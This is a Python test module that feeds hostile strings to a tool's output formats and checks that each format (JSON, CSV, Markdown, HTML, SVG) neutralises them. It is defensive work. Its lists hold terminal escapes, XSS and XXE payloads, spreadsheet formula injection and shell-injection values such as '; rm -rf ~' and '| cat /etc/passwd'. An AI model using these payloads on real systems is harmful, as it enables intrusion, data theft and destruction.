"""Texts that try to act on whatever shows them, and what each format must not let them do."""

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from functools import cache
from itertools import zip_longest
from pathlib import Path
from xml.etree import ElementTree as ET

import html5lib
from markdown_it import MarkdownIt

from rolecmp.loading.dataset import load_dataset
from rolecmp.render import Format

TERMINAL = (
    # C0, with and without an end; what a terminal does with each differs, so there are many.
    "\x1b[31mred", "\x1b]0;title\x07", "\x1b]0;title\x1b\\", "\x1b]8;;https://x.example\x07link",
    "\x1b]52;c;cm0gLXJm\x07", "\x1bP1$r\x1b\\", "\x1b_G payload\x1b\\", "\x1b^private\x1b\\",
    "\x1bX start of string", "\x1b[2J\x1b[H", "\x1b[?1049h", "\x1b[6n", "\x1b[c", "\x1bc", "\x1b#8",
    "\x1b[201~", "\x1b[?2004l", "\x1b[4:3m", "\x1b[;;;;;m", "\x1b[", "\x1b]", "\x1bP", "\x1b",
    "\x07bell", "back\x08space", "\x0bvertical", "\x0cform feed", "\x0e\x0fshift", "\x00NUL", "\x7fDEL",
    "\x1a", "\x1c\x1d\x1e\x1f", "carriage\rreturn", "two\nlines", "tab\there",
    # the same as C1, in one character, and as bytes of other encodings
    "\x9b31mred", "\x9d0;title\x9c", "\x90q\x9c", "\x9fG\x9c", "\x9eprivate\x9c", "\x98string", "\x85next",
    "\x84index", "\x8dreverse", "\u009b2J",
)  # fmt: skip
INVISIBLE = (
    "\u202eoverride", "\u202dleft", "\u202aembed\u202c", "\u2066isolate\u2069", "\u2067x", "\u2068y",
    "\u200emark", "\u200fmark", "\u061carabic", "zero\u200bwidth", "word\u2060joiner", "\ufeffbom",
    "soft\u00adhyphen", "\u180evowel", "\u2028line", "\u2029paragraph", "\ufff9note\ufffb", "\ue000",
    "\U000e0001tag", "\U000e0061\U000e0062", "\ufdd0", "\uffff", "\U0010ffff", "\u2061function",
    "\u206adeprecated", "\U0001d173music",
)  # fmt: skip
BLANK_NAMES = (
    "\u200d",
    "\u200c\u200d",
    "\u3164",
    "\u115f\u1160",
    "\u2800",
    "\u0301",
    "\ufe0f",
    "\u00a0",
)
MARKUP = (
    "[red]red[/red]", "[/]", "[/x]", "[link=https://x.example]x[/link]", "[@click=app.bell]x[/]",
    ":smile: :pile_of_poo:", "\\[bold]", "[bold", "{{ 7*7 }}", "{% raw %}", "${7*7}", "%s%n%d", "{0.x}",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "'\"><svg/onload=alert(1)>", "</td></table>",
    "<!--", "-->", "]]>", "<![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///'>]>",
    "&lt;b&gt; &amp; &#x3c;", "&y;", "<a href=javascript:alert(1)>x</a>", "<style>*{display:none}</style>",
    "</title>", "</style><b>", "<base href=//x.example>", "<meta http-equiv=refresh content=0>", "<iframe>",
    "javascript:alert(1)", "data:text/html,<b>", '" onmouseover="alert(1)', "` | b` ||", "| a | b |",
    "[x](javascript:alert(1))", "![x](https://x.example/y.png)", "[x]: https://x.example", "<https://x.example>",
    "# heading", "- list", "> quote", "1. one", "***", "---", "```", "~~~", "\\", "\\|", "*a* _b_ ~c~", "$x$",
    "www.x.example x@x.example https://x.example", "@user #1 GH-1",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://x.example")', " =1+1",
    "\u00a0=1+1", "\u3000=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", '"=1+1', ";=1+1", ",=1+1",
    '=IMPORTXML(CONCAT("https://x.example?",A1),"//a")', "%0A=1", "0x=1", "−1",
)  # fmt: skip
SHELL = (
    "$(touch /tmp/x)", "`touch /tmp/x`", "; rm -rf ~", "| cat /etc/passwd", "&& true", "> /etc/passwd", "*",
    "~", "!!", "a b", "'", '"', "--help", "-o/etc/passwd", "../../etc/passwd", "/etc/passwd", "C:\\x", "nul",
    "a;b", "$HOME", "%PATH%", "a\\", "a#b", "x=1", "(x)", "{a,b}", "[a-z]", "<(x)",
)  # fmt: skip
STRANGE = (
    "文" * 200, "ﷺ" * 100, "e" + "\u0301" * 150, "👩‍👩‍👧‍👦" * 15, "🏳️‍🌈", "ا" * 200, "نص عربي و English", "Ω≈ç√∫˜µ≤",
    "ﬁ ſ ß İ ı", "\u1e9e", "ⅷ ½ ①", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "x" * 200, "x " * 99, "-" * 200, "a" * 100 + " " + "b" * 99,
    "null", "true", "NaN", "None", "undefined", "0", "1e999", "__proto__", "constructor", "NULL", "nil",
    "1;2", "1,000", "«»", "　", "İstanbul", "CON", "a/b", "a~1b", "%2e%2e", "\\u001b[31m", "\\x1b[31m", "^[[31m",
)  # fmt: skip
TEXTS = (*TERMINAL, *INVISIBLE, *BLANK_NAMES, *MARKUP, *FORMULAS, *SHELL, *STRANGE)

MUST_BE_REFUSED = {"Cc", "Cs", "Zl", "Zp"}
BIDI = {*"\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"}
BARE_HOST = re.compile(r"(?!www\.)[\w-]+(\.[\w-]+)+", re.IGNORECASE)
SLUG = re.compile(r"[a-z0-9][a-z0-9._-]*")


def must_be_refused(text: str) -> bool:
    """Whether no name may hold the text, whatever else one thinks of it."""
    inner = text.strip()
    return not inner or any(c in BIDI or unicodedata.category(c) in MUST_BE_REFUSED for c in inner)


def shared_texts(shared: Path) -> list[str]:
    """The lists of texts that lie beside the checkout."""
    folder = shared / "badinput"
    naughty = json.loads((folder / "naughty_strings" / "blns.json").read_text(encoding="utf-8"))
    formulas = (
        (folder / "csv_injection" / "csv-payload.txt").read_text(encoding="utf-8").splitlines()
    )
    trojans = [
        line
        for path in sorted((folder / "trojan_source").rglob("*"))
        if path.suffix in (".py", ".js")
        for line in path.read_text(encoding="utf-8").splitlines()
    ]
    assert len(naughty) > 500
    assert len(formulas) > 3
    assert len(trojans) > 20
    return [text for text in (*naughty, *formulas, *trojans) if text]


# --- what must not come of them ---------------------------------------------------------------

OBEYED = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
JOINERS = {"\u200c", "\u200d"}
COLOUR = re.compile(r"\x1b\[[0-9;]*m")


def refuse_obeyed(out: str, *, also: str = "") -> None:
    """A terminal finds nothing to obey but line breaks; `also` are controls of the format."""
    characters = set(out) - JOINERS - {"\n", *also}
    found = sorted(c for c in characters if unicodedata.category(c) in OBEYED)
    assert not found, [f"U+{ord(c):04X}" for c in found]


def check_table(out: str) -> None:
    refuse_obeyed(COLOUR.sub("", out))


def check_json(out: str) -> None:
    assert out.isascii()
    refuse_obeyed(out)
    json.loads(out, parse_constant=refuse_constant)


def refuse_constant(name: str) -> None:
    raise AssertionError(f"{name} in JSON")


def check_ndjson(out: str) -> None:
    for line in out.splitlines():
        check_json(line + "\n")


def check_csv(out: str) -> None:
    refuse_obeyed(out, also="\r")
    rows = list(csv.reader(io.StringIO(out, newline=""), strict=True))
    assert len({len(row) for row in rows}) == 1
    for cell in {cell for row in rows for cell in row}:
        if not re.fullmatch(r"-?[0-9.]+(e[+-]?[0-9]+)?", cell):
            assert not re.match(r"[\s\u00a0\u3000]*[=+\-@＝＋－＠\t\r]", cell), cell


# A page has the same cells over and over: its blocks are parsed each time, a cell once.
_MARKDOWN, _MARKDOWN_BLOCKS = MarkdownIt("gfm-like"), MarkdownIt("gfm-like")
_MARKDOWN_BLOCKS.core.ruler.disable(["inline", "linkify", "text_join"])


def check_markdown(out: str) -> None:
    refuse_obeyed(out)
    environment: dict[str, object] = {}
    for token in _MARKDOWN_BLOCKS.parse(out, environment):
        assert token.type not in ("html_block", "image"), token.content
        if token.type == "inline":
            _check_inline(token.content)
    # Without any, what a cell means depends on nothing outside it.
    assert not environment.get("references")


@cache
def _check_inline(content: str) -> None:
    tokens = [*_flat(_MARKDOWN.parseInline(content))]
    for token, after in zip_longest(tokens, tokens[1:]):
        assert token.type not in ("html_block", "image"), token.content
        assert token.type != "html_inline" or token.content == "<br>", token.content
        # This parser links bare names of hosts too, which GitHub leaves alone.
        if token.type == "link_open" and not BARE_HOST.fullmatch(after.content):
            assert token.attrs.get("href") in addresses(), token


@cache
def addresses() -> set[str]:
    """Where the sources of the built-in data are, the only links in a result on hostile texts."""
    return {
        MarkdownIt().normalizeLink(source.url)
        for source in load_dataset().sources.values()
        if source.url
    }


def _flat(tokens: list) -> Iterator:  # type: ignore[type-arg]
    for token in tokens:
        yield token
        yield from _flat(token.children or [])


Element = tuple[str, tuple[str, ...]]
"""What it is, and which attributes it has."""
ALLOWED_ELEMENTS: set[Element] = set()
"""What pages of harmless data are made of, as it is written; filled by `learn_page`."""
ALLOWED_PARSED: set[Element] = set()
"""The same as a parser finds it."""

# As the template writes tags, in which no attribute is without quotes.
_ATTRIBUTE = r' [a-zA-Z][a-zA-Z0-9-]*(?:="[^"]*")?'
_TAG = re.compile(rf"<(?:/[a-zA-Z0-9]+|!doctype html|([a-zA-Z0-9]+)((?:{_ATTRIBUTE})*) ?/?)>")
_NAME = re.compile(r' ([a-zA-Z0-9-]+)(?:="[^"]*")?')
_BROKEN_OUT_OF = re.compile(r"<(style|title)\b[^<>]*>[^<]*<(?!/\1>)")


def _written_elements(out: str) -> set[Element]:
    """All that a page can be made of, for every `<` in it begins a tag with quoted attributes.

    It takes a twentieth of the time that a parser does, and refuses more.
    """
    assert "<" not in _TAG.sub("", out)
    assert not _BROKEN_OUT_OF.search(out)  # in these, what looks like a tag is none
    written = {tag for tag in _TAG.findall(out) if tag[0]}
    return {(tag, tuple(sorted(_NAME.findall(attributes)))) for tag, attributes in written}


def _parsed_elements(out: str) -> set[Element]:
    page = html5lib.parse(out, namespaceHTMLElements=False)
    return {(str(element.tag), tuple(sorted(map(str, element.attrib)))) for element in page.iter()}


def learn_page(out: str) -> None:
    """A page of harmless data: what it is made of is the template's."""
    ALLOWED_ELEMENTS.update(_written_elements(out))
    ALLOWED_PARSED.update(_parsed_elements(out))


def check_html(out: str) -> None:
    refuse_obeyed(out)
    strange = _written_elements(out) - ALLOWED_ELEMENTS
    assert not strange, strange


def check_parsed_html(out: str) -> None:
    """The same as `check_html`, as a parser finds it."""
    strange = _parsed_elements(out) - ALLOWED_PARSED
    assert not strange, strange


def check_annotations(out: str) -> None:
    refuse_obeyed(out)
    assert all(line.startswith(("::error ", "::warning ")) for line in out.splitlines())


def check_svg(out: str) -> None:
    refuse_obeyed(out)
    tags = {element.tag.rpartition("}")[2] for element in ET.fromstring(out).iter()}
    assert not tags & {"script", "a", "image", "foreignObject", "use", "iframe"}


CHECKS: dict[Format, Callable[[str], None]] = {
    Format.TABLE: check_table,
    Format.JSON: check_json,
    Format.NDJSON: check_ndjson,
    Format.CSV: check_csv,
    Format.MARKDOWN: check_markdown,
    Format.HTML: check_html,
    Format.SVG: check_svg,
    Format.JSONLD: check_json,
    Format.IDS: refuse_obeyed,
    Format.GITHUB: check_annotations,
}
